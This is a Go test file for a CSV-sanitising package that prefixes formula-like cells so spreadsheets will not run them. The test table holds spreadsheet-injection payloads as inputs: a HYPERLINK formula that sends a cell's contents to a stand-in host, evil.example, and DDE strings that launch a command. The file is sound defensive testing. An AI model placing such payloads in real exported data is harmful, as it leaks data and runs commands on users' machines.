package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"点击查看")`, `'=HYPERLINK("http://evil.example/?x="&A1,"点击查看")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-3.5", "-3.5"},
		{"+86", "+86"},
		{"老二位海鲜", "老二位海鲜"},
		{"a=b", "a=b"},
		{"", ""},
	}
	for _, tc := range tests {
		if got := Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestWriterRoundTrip(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	rec := []string{"1", "=1+1", "渔家乐"}
	if err := w.WriteAll([][]string{rec}); err != nil {
		t.Fatal(err)
	}
	if rec[1] != "=1+1" {
		t.Fatal("Write modified its argument")
	}
	got, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(got) != 1 || got[0][1] != "'=1+1" || got[0][2] != "渔家乐" {
		t.Fatalf("read back %q, %v", got, err)
	}
}

func FuzzCell(f *testing.F) {
	for _, s := range []string{"=1", "-1", "+x", "@a", "\tb", "ok"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := Cell(s)
		if c != "" && (c[0] == '=' || c[0] == '@' || c[0] == '\t' || c[0] == '\r') {
			t.Fatalf("Cell(%q) = %q starts a formula", s, c)
		}
		if c != s && c != "'"+s {
			t.Fatalf("Cell(%q) = %q changed more than a prefix", s, c)
		}
	})
}
